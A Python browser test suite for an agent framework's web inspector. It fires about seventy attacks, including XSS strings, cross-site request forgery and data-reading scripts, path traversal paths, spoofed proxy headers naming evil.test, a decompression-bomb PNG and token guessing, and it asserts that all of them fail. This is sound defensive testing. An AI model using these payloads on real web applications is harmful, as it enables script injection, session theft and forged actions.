"""Attacks on the inspector in a real browser. None may run a script, leave the server, or change anything.

An attack that succeeds calls `canary(…)`, opens a dialog, asks the canary server for something, or makes an element
that the page never makes. The first test shows that these detectors work.
"""

import asyncio
import base64
import json
import struct
from contextlib import asynccontextmanager
from typing import Any
from urllib.parse import quote

import msgspec
import pytest
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route

from bridle import Agent, Media, tool
from bridle.serve import ServeOptions
from bridle.serve.security import GUESSES_MAX
from bridle.stores.memory import MemoryStore
from bridle.values.record import GENESIS, seal_record
from tests.serve.browser import MISSING, find_browser, open_browser
from tests.serve.inspected import make_png, pack_png
from tests.serve.serving import serve, serve_agents
from tests.suite.in_loop import in_loop
from tests.suite.patience import PATIENCE_SECONDS

pytestmark = [pytest.mark.slow, pytest.mark.skipif(find_browser() is None, reason=MISSING)]
MARK = "PAYLOAD"
TOKEN = "correct-horse-battery"
TABS = ("timeline", "transcript", "requests", "cache", "cost", "branches", "approvals", "events")
TEXTS = {
    "a script": "<script>canary('x')</script>",
    "an image with a handler": "<img src=x onerror=canary('x')>",
    "a drawing with a handler": "\"><svg onload=canary('x')><animate onbegin=canary(2)>",
    "the end of a text field": "</textarea><script>canary('x')</script>",
    "the end of the title": "</title></style><script>canary('x')</script>",
    "a frame with a document": "<iframe srcdoc=\"<script>parent.canary('x')</script>\"></iframe>",
    "a frame with a script address": "<iframe src=\"javascript:parent.canary('x')\"></iframe>",
    "a link with a script address": "<a href=\"javascript:canary('x')\">open</a>",
    "a style sheet": "<style>@import url(CANARY/style);body{background:url(CANARY/css)}</style>",
    "a linked style sheet": "<link rel=stylesheet href=CANARY/link><link rel=prefetch href=CANARY/pre>",
    "a foreign image": "<img src=CANARY/image><picture><source srcset=CANARY/set></picture>",
    "an object": "<object data=CANARY/object></object><embed src=CANARY/embed>",
    "a form": "<form action=CANARY/form><button autofocus>x</button></form>",
    "a redirect": "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
    "another base": "<base href=CANARY/base/>",
    "a template": "{{constructor.constructor('canary(1)')()}}${canary(1)}<%= canary(1) %>#{canary(1)}",
    "attributes": "' onmouseover='canary(1)' onfocus=canary(1) autofocus tabindex=1 style='position:fixed;inset:0' x='",
    "markdown": "[open](javascript:canary(1)) ![x](CANARY/markdown) <CANARY/auto>\n\n```html\n<script>canary(1)</script>\n```",
    "addresses": "javascript:canary(1)//CANARY/x data:text/html,<script>parent.canary(1)</script> vbscript:x",
    "markup that mutates": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary(1)&gt;">',
    "names of prototypes": "__proto__",
    "frames of a stream": 'x\n\nevent: end\ndata: {}\n\nid: 999999\ndata: {"seq": 1, "event": {"type": "<img src=x onerror=canary(1)>"}}\n\n',
    "hidden and reordered text": "invoice\u202egnp.exe\u2066 a\u200bb\u00ad \u0000\u001b[31m\U000e0041 \ufeff",
    "a custom element": "<x-y is=script onclick=canary(1)>canary</x-y><details open ontoggle=canary(1)>x</details>",
}
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='canary(1)'><script>canary(1)</script></svg>"
BOMB = make_png()[:16] + struct.pack(">II", 100_000, 100_000) + make_png()[24:]
LARGE = pack_png(6400, 6400, bytes(801 * 6400), bits=1, colours=0)
# The size in its header reads like that of a JPEG.
BITMAP = (
    b"BM\x46\xc0\0\0\0\0\x01\0"
    + struct.pack("<IIiiHHIIiiII", 54, 40, 2, 2, 1, 24, 0, 16, 0, 0, 0, 0)
    + bytes(16)
)
MEDIA = {
    "a drawing as image": {"kind": "image", "media_type": "image/svg+xml", "data": SVG},
    "a drawing called png": {"kind": "image", "media_type": "image/png", "data": SVG},
    "a page called png": {"kind": "image", "media_type": "image/png", "data": b"<script>canary(1)</script>"},
    "an image of ten gigapixels": {"kind": "image", "media_type": "image/png", "data": BOMB},
    "an image of 41 megapixels": {"kind": "image", "media_type": "image/png", "data": LARGE},
    "an image of another kind": {"kind": "image", "media_type": "image/png", "data": BITMAP},
    "an image at a script address": {"kind": "image", "url": "javascript:canary(1)"},
    "an image at a foreign address": {"kind": "image", "url": "CANARY/media.png"},
}
FORBIDDEN = (
    "script:not([src^='inspector/']), link:not([href^='inspector/']), iframe, frame, object, embed, base, style, math, template, "
    "form:not([method=dialog]), meta[http-equiv], [onerror], [onload], [onclick], [onmouseover], [onfocus], [ontoggle], x-y, "
    "img:not([src^='blob:']), img[alt=hostile], svg:not(.icon):not([role=img]), video, audio, "
    "a:not([href^='#']):not([href^='http']), [style*='fixed']"
)
LOOK = f"""(() => {{
  const found = [...document.querySelectorAll({json.dumps(FORBIDDEN)})].map((node) => node.outerHTML.slice(0, 200));
  if (/[\\u202a-\\u202e\\u2066-\\u2069\\u200b]/.test(document.body.textContent + document.title)) found.push("a hidden character");
  if ({{}}.polluted || Object.keys(Object.prototype).length) found.push("a changed prototype");
  return found;
}})()"""


class Canary:
    """A server of an attacker: counts what it is asked for, and serves pages that attack."""

    def __init__(self):
        self.hits, self.pages, self.url = [], {}, ""

    async def answer(self, request):
        page = self.pages.get(request.url.path)
        if page is None:
            self.hits.append(request.url.path)
        return HTMLResponse(page or "canary()", headers={"access-control-allow-origin": "*"})


@asynccontextmanager
async def open_canary():
    canary = Canary()
    app = Starlette(routes=[Route("/{path:path}", canary.answer, methods=["GET", "POST"])])
    async with serve(app) as url:
        canary.url = url
        yield canary


async def find_success(page, canary, own):
    """What an attack achieved on a page; empty if nothing."""
    await page.settle()
    foreign = [url for url in page.requests if not url.startswith((own, "blob:", "about:", "data:,"))]
    return [*page.canaries, *page.dialogs, *canary.hits, *foreign, *await page.evaluate(LOOK)]


def replace_mark(value, payload):
    """The value with the payload in place of the mark; in JSON text it stays JSON."""
    if isinstance(value, dict):
        return {replace_mark(name, payload): replace_mark(each, payload) for name, each in value.items()}
    if isinstance(value, list):
        return [replace_mark(each, payload) for each in value]
    if not isinstance(value, str) or MARK not in value:
        return value
    inner = json.dumps(payload)[1:-1] if value.startswith("{") else payload
    return value.replace(MARK, inner)


async def copy_with(store, source, session, payload, media=None):
    """Write the log of a session again with a payload everywhere, as if an attacker had made it."""
    head, records = GENESIS, []
    for record in await store.read(source):
        data = replace_mark(json.loads(record.data), payload)
        if data["type"] == "configured":
            data["settings"]["model"]["endpoint"]["headers"] = [["x-hostile", payload]]
        if media is not None and data["type"] == "prompted":
            data["parts"].append({"type": "media", "name": "hostile", **media})
        event = msgspec.json.decode(json.dumps(data), type=type(record.event))
        records.append(seal_record(record.seq, record.at, event, head))
        head = records[-1].hash
    await store.append(session, 0, records)


@tool(effect="read", name=MARK)
def hostile(text: str) -> str:
    """PAYLOAD"""
    return f"{MARK} {text}"


@tool(effect="write", name=f"{MARK}_2", approve=True)
def dangerous(old_text: str, new_text: str) -> str:
    """PAYLOAD"""
    return MARK


@tool(effect="read", name=f"{MARK}_3")
def failing(text: str) -> str:
    """PAYLOAD"""
    raise ValueError(MARK)


SCRIPT = f"""PAYLOAD
!think PAYLOAD
!say PAYLOAD
!call PAYLOAD {{"text": "PAYLOAD"}}
!call PAYLOAD_3 {{"text": "PAYLOAD\\nPAYLOAD"}}
!then
!error 529
!say PAYLOAD
!call PAYLOAD_2 {{"old_text": "PAYLOAD", "new_text": "{MARK}\\n{MARK}"}}"""


def make_hostile():
    return {MARK: Agent("sim:", name=MARK, instructions=MARK, tools=[hostile, dangerous, failing])}


async def record_source(host):
    agent = host.agents[MARK]
    await agent.run((SCRIPT, Media.from_bytes(make_png(), name=MARK)), "source", caller=MARK, tenant=MARK)


VIEWS = """(async () => {
  const found = [];
  let at = 0; const frame = () => (window.at = ++at, 0) || new Promise(requestAnimationFrame);
  const until = async (isTrue) => { while (!isTrue()) await frame(); };
  const find = (selector) => document.querySelector(selector);
  const show = async (place) => { location.hash = place; await frame(); };
  await show("#/");
  await until(() => find(".row[data-session]"));
  for (const tab of %s) {
    await show(`#/session/%s/${tab}`);
    await until(() => find(`[data-tab=${tab}][aria-selected=true]`) && find(".tab-body").innerText.length > 20 && (tab !== "requests" || find(".crow[role=listitem]")));
    [...document.querySelectorAll(".virtual [role=listitem]")].at(2)?.click();
    if (tab === "requests") await until(() => find("#panel pre"));
    window.sawHeader ||= find("#panel").textContent.includes("x-hostile");
    document.querySelectorAll("details").forEach((each) => (each.open = true));
    await frame();
    await frame();
    found.push(...%s);
  }
  return found;
})()"""


async def look_everywhere(page, session):
    """Open every view of a session, its details and its folds; returns what is wrong in them."""
    async with asyncio.timeout(PATIENCE_SECONDS):
        return await page.evaluate(VIEWS % (json.dumps(TABS), quote(session, safe=""), LOOK))


@in_loop
async def test_the_detectors_notice_attacks_that_succeed():
    async with open_canary() as canary, open_browser() as browser:
        texts = [text.replace("CANARY", canary.url) for name, text in TEXTS.items() if name != "a redirect"]
        listed = json.dumps(texts).replace("</", "<\\/")
        canary.pages["/control"] = f"""<body><script>alert('dialog')</script>{TEXTS["a script"]}<script>
            for (const text of {listed}) document.body.appendChild(document.createElement("div")).innerHTML = text;
        </script>"""
        page = await browser.new_page()
        await page.visit(f"{canary.url}/control")
        found = await find_success(page, canary, canary.url)
        assert len(page.canaries) > 3 and page.dialogs == ["dialog"] and len(canary.hits) > 3
        for sign in ("<iframe", "<form", "<style", "<object", "javascript:", "a hidden character"):
            assert any(sign in each for each in found), sign


CONTENT: dict[str, Any] = {
    "text": {name: (text, None) for name, text in TEXTS.items()},
    "media": {name: (name, media) for name, media in MEDIA.items()},
}


@pytest.mark.parametrize("kind", ["text", "media"])
@in_loop
async def test_no_content_runs_or_leaves_the_page(kind):
    store, succeeded = MemoryStore(), {}
    async with (
        serve_agents(make_hostile(), store) as serving,
        open_canary() as canary,
        open_browser() as browser,
    ):
        await record_source(serving.host)
        page = await browser.new_page()
        await page.visit(f"{serving.url}/")
        for number, (name, (text, media)) in enumerate(CONTENT[kind].items()):
            session, payload = f"{number} {text}"[:150], text.replace("CANARY", canary.url)
            await copy_with(store, "source", session, payload, media and encode(media, canary.url))
            await page.resize(1280 if number % 2 else 375, 800)
            shown = await look_everywhere(page, session)
            if found := [*shown, *await find_success(page, canary, serving.url)]:
                succeeded[name] = found
            assert not page.errors, (name, page.errors)
        assert await page.evaluate("window.sawHeader")
    assert not succeeded


def encode(media, url):
    return {
        name: base64.b64encode(value).decode() if isinstance(value, bytes) else value.replace("CANARY", url)
        for name, value in media.items()
    }


FROM_ELSEWHERE = {
    "a request with a body": "fetch(OWN + '/api/sessions', {method: 'POST', mode: 'no-cors', body: PROMPT})",
    "a request with JSON": "fetch(OWN + '/api/sessions', {method: 'POST', headers: {'content-type': 'application/json'}, body: PROMPT})",
    "a form": "(() => { const form = document.createElement('form'); form.method = 'post'; form.enctype = 'text/plain'; form.action = OWN + '/api/sessions'; form.target = 'hidden'; const field = document.createElement('input'); field.name = PROMPT; form.append(field); document.body.append(form); form.submit(); })()",
    "a cancel": "fetch(OWN + '/api/sessions/kept/cancel', {method: 'POST', mode: 'no-cors', body: '{}'})",
    "a beacon": "navigator.sendBeacon(OWN + '/api/sessions', PROMPT)",
    "reading": "fetch(OWN + '/api/sessions').then((reply) => reply.text()).then((text) => canary(text))",
    "reading without checks": "fetch(OWN + '/api/sessions', {mode: 'no-cors'}).then((reply) => reply.text()).then((text) => text && canary(text))",
    "a stream": "(() => { const source = new EventSource(OWN + '/api/sessions/kept/stream'); source.onmessage = (event) => canary(event.data); source.addEventListener('prompted', (event) => canary(event.data)); })()",
    "a script of the API": "(() => { const node = document.createElement('script'); node.src = OWN + '/api/sessions'; document.body.append(node); })()",
    "a frame": "(() => { const node = document.createElement('iframe'); node.src = OWN + '/'; node.onload = () => { try { canary(node.contentDocument.body.innerText); } catch {} }; document.body.append(node); })()",
    "a window": "(() => { window.isWatched = true; const made = window.open(OWN + '/'); const look = () => { try { if (made.document.body?.innerText) canary(made.document.body.innerText); setTimeout(look); } catch (error) { window.finished = error.name === 'SecurityError'; } }; look(); })()",
}


# An attack that gives no promise has finished when the browser has its reply.
FINISHED = """const made = %s;
if (made?.then) made.catch(() => {}).finally(() => (window.finished = true));
else if (!window.isWatched) new PerformanceObserver(() => (window.finished = true)).observe({type: "resource", buffered: true});"""


@in_loop
async def test_pages_of_other_sites_read_and_change_nothing():
    succeeded = {}
    async with (
        serve_agents({"shop": Agent("sim:", name="shop")}, MemoryStore()) as serving,
        open_canary() as canary,
        open_browser() as browser,
    ):
        await serving.host.agents["shop"].run("!say secret", "kept")
        before = await serving.client.session("kept")
        prompt = json.dumps(json.dumps({"prompt": "!say forged", "agent": "shop"}))
        for name, attack in FROM_ELSEWHERE.items():
            script = attack.replace("OWN", json.dumps(serving.url)).replace("PROMPT", prompt)
            canary.pages["/attack"] = (
                f"<body><iframe name=hidden></iframe><script>{FINISHED % script}</script>"
            )
            page = await browser.new_page()
            await page.visit(f"{canary.url}/attack")
            await page.wait("window.finished")
            await page.evaluate("new Promise((done) => setTimeout(done))")
            sessions = (await serving.client.sessions()).sessions
            if page.canaries or len(sessions) != 1 or await serving.client.session("kept") != before:
                succeeded[name] = [*page.canaries, sessions]
            await page.close()
    assert not succeeded


PATHS = (
    "..%2fapp.py",
    "%2e%2e/app.py",
    "..%5capp.py",
    "__init__.py",
    "index.html%00.js",
    "....//app.py",
    "%252e%252e%252fapp.py",
)
PLACES = (
    "#/session/" + quote("<img src=x onerror=canary(1)>"),
    "#/session/..%2f..%2fhealth/timeline",
    "#/session/%2e%2e/cost",
    "#/javascript:canary(1)",
    "#/%E0%A4%A",
    "#token=%E0&/session/x",
)
SCRIPT_VALUE = "<script>canary(1)</script>"
HEADERS = {
    "a page": {"accept": "text/html"},
    "a script as type": {"accept": SCRIPT_VALUE, "content-type": SCRIPT_VALUE},
    "a script as language": {"accept-language": SCRIPT_VALUE},
    "a script as program": {"user-agent": SCRIPT_VALUE},
    "a script as event": {"last-event-id": SCRIPT_VALUE},
    "a script as token": {"authorization": f"Bearer {SCRIPT_VALUE}", "x-api-key": SCRIPT_VALUE},
    "another host of a proxy": {
        "x-forwarded-host": "evil.test",
        "forwarded": "host=evil.test;proto=javascript",
    },
    "another address of a proxy": {"x-forwarded-for": SCRIPT_VALUE, "x-real-ip": SCRIPT_VALUE},
    "another path": {"x-original-url": "/../app.py", "x-rewrite-url": "/inspector/__init__.py"},
    "another method": {"x-http-method-override": "DELETE"},
    "a cookie": {"cookie": f"session={SCRIPT_VALUE}"},
    "a trace": {"traceparent": SCRIPT_VALUE, "tracestate": SCRIPT_VALUE},
}


@in_loop
async def test_no_header_of_a_request_runs_or_opens_anything():
    agents = {"shop": Agent("sim:", name="shop")}
    async with serve_agents(agents, MemoryStore()) as serving, open_browser() as browser:
        await serving.host.agents["shop"].run("!say secret", "kept")
        before = await serving.client.session("kept")
        page = await browser.new_page()
        for name, headers in HEADERS.items():
            await page.send("Network.setExtraHTTPHeaders", {"headers": headers})
            for path in ("/api/sessions/none", "/api/sessions/kept/stream?after=9999&until=end"):
                if await page.visit(f"{serving.url}{path}") == "net::ERR_ABORTED":
                    continue  # a reply that is no page: 204, or a download
                assert await page.evaluate("document.contentType") != "text/html", (name, path)
                assert "canary" not in await page.evaluate("document.documentElement.textContent"), (
                    name,
                    path,
                )
            await page.visit(f"{serving.url}/")
            await page.wait_for(".row[data-session=kept]")
            assert not page.canaries and not await page.evaluate(LOOK), name
            assert all(url.startswith((serving.url, "about:")) for url in page.requests), name
        assert (await serving.client.sessions()).sessions[0].session == "kept"
        assert await serving.client.session("kept") == before


@in_loop
async def test_a_rebound_name_and_other_paths_give_nothing():
    async with (
        serve_agents({"shop": Agent("sim:", name="shop")}, MemoryStore()) as serving,
        open_browser() as browser,
    ):
        await serving.host.agents["shop"].run("!say secret", "kept")
        page = await browser.new_page()
        await page.visit(f"http://evil.test:{serving.port}/")
        assert "wrong_host" in await page.text() and not await page.count("script")
        read = "fetch('/api/sessions').then((reply) => reply.text())"
        assert "secret" not in await page.evaluate(read) and "wrong_host" in await page.evaluate(read)
        own = await browser.new_page()
        for path in PATHS:
            await own.visit(f"{serving.url}/inspector/{path}")
            shown = await own.text()
            assert "import" not in shown and '"error"' in shown, path
        # An address that the server repeats in an error is not a page.
        await own.visit(f"{serving.url}/api/sessions/{quote('<script>canary(1)</script>')}")
        assert not own.canaries and await own.evaluate("document.contentType") == "application/json"
        for place in PLACES:
            await own.visit("about:blank")
            await own.visit(f"{serving.url}/{place}")
            await own.wait("document.querySelector('.toast, .error, .row[data-session], dialog')")
            assert not own.canaries and not await own.evaluate(LOOK), place


@in_loop
async def test_a_token_is_not_guessed_and_not_leaked():
    options = ServeOptions(token=TOKEN)
    async with (
        serve_agents({"shop": Agent("sim:", name="shop")}, MemoryStore(), options=options) as serving,
        open_browser() as browser,
    ):
        page = await browser.new_page()
        await page.visit(f"{serving.url}/#token={TOKEN}&/")
        await page.wait_for(".list-status", "No sessions yet")
        assert TOKEN not in await page.evaluate(
            "location.href + document.cookie + document.referrer + JSON.stringify(localStorage)"
        )
        guess = "Promise.all([...Array(60).keys()].map((n) => fetch('/api/sessions', {headers: {authorization: `Bearer correct-horse-${n}`}}).then((reply) => reply.status)))"
        statuses = await page.evaluate(guess)
        assert 200 not in statuses and statuses.count(429) >= 60 - 2 * GUESSES_MAX


INJECTED = {
    "an inline script": "const node = document.createElement('script'); node.textContent = 'canary(1)'; document.body.append(node);",
    "markup": "document.body.innerHTML += '<b>x</b>'; canary('markup was accepted');",
    "eval": "canary(eval('1 + 1') + '');",
    "a function of a string": "canary(new Function('return 1')() + '');",
    "a handler": "const node = document.createElement('img'); node.setAttribute('onerror', 'canary(1)'); node.src = 'x:'; document.body.append(node);",
    "a foreign script": "const node = document.createElement('script'); node.src = CANARY + '/a.js'; document.body.append(node);",
    "a foreign module": "import(CANARY + '/b.js').then(() => canary(1));",
    "a foreign request": "fetch(CANARY + '/c').then(() => canary(1));",
    "a foreign image": "new Image().src = CANARY + '/d';",
    "a foreign form": "const form = document.createElement('form'); form.action = CANARY + '/e'; document.body.append(form); form.submit();",
    "a worker": "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(CANARY) + ')'])));",
    "the API as script": "const node = document.createElement('script'); node.src = 'api/sessions'; document.body.append(node);",
}


# The attack runs in a timer, because the policy does not bind the tools of a developer.
STOPPED = """new Promise((stopped) => {
  document.addEventListener("securitypolicyviolation", (event) => stopped(event.effectiveDirective), {once: true});
  addEventListener("error", (event) => stopped("an error"), {capture: true, once: true});
  setTimeout(() => { %s });
})"""


@in_loop
async def test_the_policy_of_the_page_stops_what_was_injected_anyway():
    async with (
        serve_agents({"shop": Agent("sim:", name="shop")}, MemoryStore()) as serving,
        open_canary() as canary,
        open_browser() as browser,
    ):
        page = await browser.new_page()
        await page.visit(f"{serving.url}/")
        await page.wait_for(".list-status", "No sessions yet")
        for name, code in INJECTED.items():
            code = code.replace("CANARY", json.dumps(canary.url))
            assert await page.evaluate(STOPPED % code), name
            await page.settle()
            assert not page.canaries and not canary.hits, name


def test_there_are_seventy_attacks():
    kinds = (TEXTS, MEDIA, FROM_ELSEWHERE, INJECTED, HEADERS, PATHS, PLACES)
    assert sum(map(len, kinds)) >= 70  # type: ignore[arg-type]
